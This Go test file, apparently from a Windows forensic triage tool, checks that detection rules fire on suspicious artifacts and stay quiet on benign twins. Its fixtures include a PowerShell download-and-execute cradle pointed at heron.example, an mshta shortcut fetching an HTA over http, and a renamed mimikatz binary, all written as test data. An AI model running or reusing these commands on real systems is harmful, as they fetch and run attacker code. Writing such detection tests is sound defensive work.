	{"S-01", findings.High, records{rec("defenderdetections", system.DefenderDetection{Threat: "Trojan:Win32/Heron", Path: `C:\Users\u\a.exe`, NotCleaned: true})}, records{rec("defenderdetections", system.DefenderDetection{Threat: "Trojan:Win32/Heron", Path: `C:\Users\u\a.exe`}), rec("defenderdetections", system.DefenderDetection{Threat: "Virus:DOS/EICAR_Test_File", NotCleaned: true})}},
	{"S-02", findings.High, records{rec("defenderdetections", system.DefenderDetection{Threat: "T", Path: `C:\Users\Public\a.exe`}), rec("defender", system.Defender{Kind: "exclusion", List: "Paths", Name: `C:\Users\Public`})}, records{rec("defenderdetections", system.DefenderDetection{Threat: "T", Path: `C:\Users\Publicity\a.exe`}), rec("defender", system.Defender{Kind: "exclusion", List: "Paths", Name: `C:\Users\Public`})}},
	{"S-03", findings.High, records{rec("defenderlog", system.DefenderLogEntry{Kind: "original name", Path: `C:\ProgramData\x.exe`, Original: "mimikatz.exe"})}, records{rec("defenderlog", system.DefenderLogEntry{Kind: "original name", Path: `C:\ProgramData\x.exe`, Original: "product.exe"})}},
	{"S-04", findings.Low, records{rec("remotetools", communication.RemoteTool{Tool: "AnyDesk", Kind: "session", Time: day})}, records{rec("hosts", communication.Host{Default: true})}},
	{"S-04", findings.High, records{rec("remotetools", communication.RemoteTool{Tool: "AnyDesk", Kind: "installed", Path: `C:\Users\Public\AnyDesk.exe`})}, records{rec("hosts", communication.Host{Default: true})}},
	{"S-05", findings.High, records{of("u", rec("pshistory", execution.PSCommand{Command: `Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://heron.example/a.ps1'))`}))}, records{of("u", rec("pshistory", execution.PSCommand{Command: `Invoke-WebRequest https://heron.example/a.zip -OutFile a.zip`}))}},
	{"S-06", 0, records{of("u", rec("shortcuts", activity.Shortcut{Name: "a.lnk", Place: "desktop", LinkFields: activity.LinkFields{Target: `C:\Windows\System32\mshta.exe`, Arguments: "http://192.0.2.1/a.hta"}}))}, records{of("u", rec("shortcuts", activity.Shortcut{Name: "a.lnk", Place: "desktop", LinkFields: activity.LinkFields{Target: `C:\Windows\System32\cmd.exe`, Arguments: "/k"}}))}},
	{"S-07", findings.Medium, records{rec("grouppolicy", persistence.GroupPolicy{Kind: "immediate task", Name: "x"})}, records{rec("grouppolicy", persistence.GroupPolicy{Kind: "drive", Name: "R:"})}},
	{"S-08", findings.Medium, records{rec("openssh", communication.OpenSSH{Kind: "authorised key", Fingerprint: "SHA256:a", Admins: true})}, records{rec("openssh", communication.OpenSSH{Kind: "known host", Fingerprint: "SHA256:a"})}},
	{"A-01", findings.Critical, records{user(501, "Guest", func(a *system.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-501")}, records{user(501, "Guest", func(a *system.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-500")}},
	{"A-02", findings.High, records{user(1005, "help$", nil)}, records{user(1001, "mira", nil)}},
	{"A-03", findings.Critical, records{user(1005, "x", func(a *system.Account) { a.StoredRID = 500 })}, records{user(1005, "x", nil)}},
	{"A-04", findings.Low, records{user(1005, "x", func(a *system.Account) { a.BadPassword = day }), pf(`\Users\Public\a.exe`, at(5))}, records{user(1005, "x", func(a *system.Account) { a.BadPassword = day }), pf(`\Program Files\a.exe`, at(5))}},
	{"A-05", findings.Medium, records{of("u", rec("mappeddrives", activity.MappedDrive{Path: `\\srv\c$`}))}, records{of("u", rec("mappeddrives", activity.MappedDrive{Path: `\\srv\public`}))}},
	{"A-06", findings.Low, records{pf(`\Windows\System32\cmd.exe`, at(0)), rec("prefetch", execution.Prefetch{Executable: "A.EXE", ImagePath: `\VOLUME{2}\A.EXE`, HashStatus: "verified", RunCount: 1, LastRuns: at(0)})}, records{pf(`\Program Files\a.exe`, at(0))}},
	{"A-08", findings.High, records{user(1001, "x", nil), rec("userrights", rights("S-1-5-21-1-2-3-1001", "SeDebugPrivilege"))}, records{user(1001, "x", nil), rec("userrights", rights("S-1-5-21-1-2-3-1001")), rec("userrights", rights("S-1-5-32-544", "SeDebugPrivilege"))}},
	{"F-12", findings.Medium, records{of("u", rec("internetsettings", activity.InternetZone{Zone: "3", ZoneName: "Internet", Weaker: []string{"1806 start programs and unsafe files: allowed (default: asks)"}}))}, records{of("u", rec("internetsettings", activity.InternetZone{Zone: "3", ZoneName: "Internet", Changed: []string{"1803 download files: denied (default: allowed)"}}))}},
	{"F-13", findings.High, records{of("u", rec("zonemap", communication.ZoneMap{Site: "8.8.4.4", Protocol: "http", Zone: 2, ZoneName: "Trusted sites"}))}, records{of("u", rec("zonemap", communication.ZoneMap{Site: "8.8.4.4", Protocol: "http", Zone: 4, ZoneName: "Restricted sites"}))}},
	{"F-14", findings.Medium, records{rec("backuprestore", system.BackupExclusion{List: "FilesNotToSnapshot", Name: "Host", Patterns: []string{`\Users\Public\* /s`}})}, records{rec("backuprestore", system.BackupExclusion{List: "FilesNotToSnapshot", Name: "WUA", Default: true, Patterns: []string{`%windir%\softwaredistribution\*.* /s`}})}},
	{"A-07", findings.Low, records{user(1001, "x", nil), rec("profiles", system.Profile{SID: "S-1-5-21-1-2-3-1009", Path: `C:\Users\gone`})}, records{user(1001, "x", nil), rec("profiles", system.Profile{SID: "S-1-5-21-1-2-3-1001", Path: `C:\Users\x`}), rec("profiles", system.Profile{SID: "S-1-5-21-9-9-9-1001", Path: `C:\Users\domain`})}},
}

// facts are those of a whole volume with a few files.
func facts() findings.Facts {
	return findings.Facts{
		Machine: &evidence.Machine{Name: "TEST", NameFrom: "SYSTEM", SystemRoot: `C:\Windows`, Build: "19045"}, Prefetcher: 3, Whole: true, FileTimes: true,
		Find: func(p string) (bool, bool) {
			low := strings.ToLower(p)
			return !strings.Contains(low, "gone"), !strings.Contains(low, "winevt")
		},
		Times: fileTimes,
	}
}

// fileTimes tells the times of the files of the cases by their names.
func fileTimes(p string) (findings.FileTimes, bool) {
	fine := day.Add(12345600)
	t := findings.FileTimes{Created: fine, Modified: day.Add(time.Hour + 700), Changed: fine, NameCreated: fine, NameModified: fine, Source: "test"}
	switch low := strings.ToLower(p); {
	case strings.Contains(low, "gone"):
		return findings.FileTimes{}, false
	case strings.Contains(low, "older"):
		t.Modified = day.Add(-time.Hour)
	case strings.Contains(low, "stomped"):
		t.Created, t.Modified = day.AddDate(-5, 0, 0), day.AddDate(-5, 0, 0)
	case strings.Contains(low, "extracted"): // an archive keeps the modification time
		t.Modified = day.AddDate(-5, 0, 0)
	case strings.Contains(low, "collected"):
		t.NameCreated, t.NameModified = time.Time{}, time.Time{}
		t.Created, t.Modified = day.AddDate(-5, 0, 0), day.AddDate(-5, 0, 0)
	}
	return t, true
}

func judge(recs records, opts *findings.Options) *findings.Report {
	e := findings.NewEvaluator(facts(), opts)
	for i := range recs {
		recs[i].ID = fmt.Sprintf("%s-%d", recs[i].Artifact.Name, i)
		e.Add(&artifacts.Result{Artifact: recs[i].Artifact, From: recs[i].From, Records: recs[i : i+1]})
	}
	return e.Report()
}

// level returns the highest level that the rule gave in the report, 0 when it
// had nothing to say.
func level(r *findings.Report, rule string) (l findings.Level, says []string) {
	for _, f := range r.Findings {
		for _, re := range f.Reasons {
			if re.RuleID == rule {
				l = max(l, re.Level)
				says = append(says, f.Subject+": "+re.Says)
			}
		}
	}
	return l, says
}

func TestRules(t *testing.T) {
	for _, c := range cases {
		l, says := level(judge(c.fires, nil), c.rule)
		if l == 0 {
			t.Errorf("%s has nothing to say about %+v", c.rule, c.fires[0].Data)
		} else if c.level != 0 && l != c.level {
			t.Errorf("%s gives %s, want %s: %s", c.rule, l, c.level, says)
		}
		// A mention as context is no alarm, unless the rule has nothing stronger.
		if benign, says := level(judge(c.benign, nil), c.rule); benign > findings.Informational || benign > 0 && benign >= l {
			l := benign
			t.Errorf("%s gives %s to its benign twin: %s", c.rule, l, says)
		}
	}
}

// TestEveryRuleHasACase: a rule that can fire has a case that fires it.
func TestEveryRuleHasACase(t *testing.T) {
	for _, r := range findings.Rules() {
		if r.OnRequest || r.ID == "I-01" { // judged with lists only: see TestListBad
			continue
		}
		if !slices.ContainsFunc(cases, func(c struct {
			rule   string
			level  findings.Level
			fires  records
			benign records
		}) bool {
			return c.rule == r.ID
		}) && !hasEventCase(r.ID) {
			t.Errorf("%s has no case", r.ID)
		}
	}
}

// TestAgreement: what starts by itself and did run is raised one step; a list
// of programs that also knows it adds nothing.
func TestAgreement(t *testing.T) {
	r := judge(records{runKey(`C:\Users\Public\a.exe`, ""), pf(`\Users\Public\a.exe`, at(0))}, nil)
	if f := find(r, `a.exe`); f == nil || f.Level != findings.Critical || f.Raised == "" {
		t.Errorf("autorun and start: %+v", f)
	}
	r = judge(records{pf(`\Users\Public\a.exe`, at(0)), shim(`C:\Users\Public\a.exe`, "no"), amcache(`C:\Users\Public\a.exe`, "")}, nil)
	f := find(r, `a.exe`)
	if f == nil || f.Level != findings.High || f.Raised != "" {
		t.Fatalf("start and inventories: %+v", f)
	}
	if f.Count != 3 || len(f.Evidence) != 3 {
		t.Errorf("%d records, want those of all three sources", f.Count)
	}
}

// TestSeededStaysOut: what came with the profile is no start, for no rule.
func TestSeededStaysOut(t *testing.T) {
	r := judge(records{of("u", rec("userassist", execution.UserAssist{Name: "m", Path: `C:\Users\Public\svchost.exe`, Runs: 3, Seeded: true, Kind: "program", LastRun: day}))}, nil)
	for _, f := range r.Findings {
		if f.RuleID != "X-13" {
			t.Errorf("%s speaks of %s", f.RuleID, f.Subject)
		}
	}
}

func hasEventCase(id string) bool {
	for _, c := range eventCases {
		if c.rule == id {
			return true
		}
	}
	return false
}

// TestFoldersShown: the folder of a program at the root of a volume has a name, too.
func TestFoldersShown(t *testing.T) {
	r := judge(records{pf(`\PerfLogs\tool.exe`, at(0)), pf(`\tool.exe`, at(1))}, nil)
	said := fmt.Sprint(r.Findings)
	if !strings.Contains(said, `tool.exe ran from \perflogs, and a program of the same name from \`) || strings.Contains(said, "from ,") {
		t.Errorf("%s", said)
	}
}
